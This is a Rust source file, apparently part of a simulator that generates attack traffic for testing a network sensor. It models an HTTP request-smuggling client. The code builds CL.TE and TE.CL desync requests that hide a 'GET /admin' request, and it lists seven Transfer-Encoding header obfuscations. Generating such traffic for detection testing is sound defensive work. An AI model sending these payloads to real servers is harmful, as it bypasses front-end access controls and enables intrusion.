//! One client that sends requests whose end two servers place differently, with a second request inside.
//!
//! Where the sensor sits the server goes by one of the two framings, and so answers what was inside. Who is slow only asks
//! whether it would, and is refused.

use super::super::exchange::Host;
use super::super::random::Rng;
use super::super::stage::{Actor, Stage};
use super::super::wire::connection::{Connection, Side};
use super::Plan;
use crate::time::Timestamp;
use std::net::SocketAddr;
use std::time::Duration;

const PATH: &str = "/v1/products";
/// Ways to write the coding so that some servers read it (J. Kettle, "HTTP Desync Attacks", 2019).
const DISGUISES: [&str; 7] = [
    "Transfer-Encoding : chunked",
    "Transfer-Encoding: xchunked",
    "Transfer-Encoding:\r\n chunked",
    "Transfer-Encoding: chunked, identity",
    "Transfer-Encoding: \x0bchunked",
    "X: y\nTransfer-Encoding: chunked",
    "Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
];
const REFUSED: &str = "HTTP/1.1 400 Bad Request\r\nServer: nginx\r\nContent-Length: 0\r\nConnection: close\r\n\r\n";
const NOT_ALLOWED: &str = "HTTP/1.1 405 Method Not Allowed\r\nServer: nginx\r\nContent-Length: 0\r\n\r\n";
const NOT_FOUND: &str = "HTTP/1.1 404 Not Found\r\nServer: nginx\r\nContent-Length: 0\r\n\r\n";
const THINKING: Duration = Duration::from_millis(6);

struct Smuggler {
    plan: Plan,
    client: SocketAddr,
    rng: Rng,
    done: u32,
}

pub fn cast(stage: &mut Stage<'_>, mut plan: Plan) {
    let mut rng = Rng::new(plan.rng.next_u64());
    let client = SocketAddr::new(stage.world.attacker(plan.index, 0), 1024 + rng.below(60_000) as u16);
    let smuggler = Smuggler { client, rng, done: 0, plan };
    stage.start(smuggler.plan.from, Box::new(smuggler));
}

fn request(fields: &str, body: &str) -> String {
    format!(
        "POST {PATH} HTTP/1.1\r\nHost: {}\r\nContent-Type: application/x-www-form-urlencoded\r\n{fields}\r\n\r\n{body}",
        Host::Api.name()
    )
}

fn inside(end: &str) -> String {
    format!("GET /admin HTTP/1.1\r\nHost: {}\r\n{end}", Host::Api.name())
}

/// Two framings, the outer longer: the server goes by the chunks, and the rest waits for the next request.
fn by_length(coding: &str) -> String {
    let body = format!("0\r\n\r\n{}", inside("X-Ignore: X"));
    request(&format!("Content-Length: {}\r\n{coding}", body.len()), &body)
}

/// The outer goes by the chunks, the server by the length, behind the first chunk size.
fn by_chunks() -> String {
    let held = inside("Content-Length: 15\r\n\r\nx=1");
    let size = format!("{:x}\r\n", held.len());
    let body = format!("{size}{held}\r\n0\r\n\r\n");
    request(&format!("Content-Length: {}\r\nTransfer-Encoding: chunked", size.len()), &body)
}

impl Actor for Smuggler {
    fn step(&mut self, now: Timestamp, stage: &mut Stage<'_>) -> Option<Timestamp> {
        if self.plan.is_over(self.done, now) {
            return None;
        }
        self.client.set_port(1024 + (self.client.port() + 1) % 60_000);
        let server = stage.world.server(Host::Api, self.rng.next_u64());
        let connection = Connection::new(self.client, server, self.rng.next_u64());
        let mut connection = connection.with_vlan(stage.world.vlan).with_rtt(Duration::from_millis(30));
        let at = connection.open(now, stage.wire());
        let is_slow = self.plan.numbers.lasts.is_none();
        let disguise = DISGUISES[self.done as usize % DISGUISES.len()];
        let (first, answers): (String, &[&str]) = match self.done % 2 {
            _ if is_slow => (by_length(disguise), &[REFUSED]),
            0 => (by_length("Transfer-Encoding: chunked"), &[NOT_ALLOWED]),
            _ => (by_chunks(), &[NOT_ALLOWED, NOT_FOUND]),
        };
        stage.records[self.plan.record].note(at, self.client.ip(), format!("POST {}{PATH}", Host::Api.name())); // made when it was planned
        let mut end = connection.send(Side::Client, at, first.as_bytes(), stage.wire());
        for answer in answers {
            end = connection.send(Side::Server, end.saturating_add(THINKING), answer.as_bytes(), stage.wire());
        }
        if !is_slow && answers.len() == 1 {
            let next = request("Content-Length: 0", "");
            end = connection.send(Side::Client, end, next.as_bytes(), stage.wire());
            end = connection.send(Side::Server, end.saturating_add(THINKING), NOT_FOUND.as_bytes(), stage.wire());
        }
        let end = connection.close(Side::Server, end, stage.wire());
        self.done += 1;
        let pace = self.plan.pace().mul_f64(0.5 + self.rng.unit());
        Some(now.saturating_add(pace).max(end))
    }
}
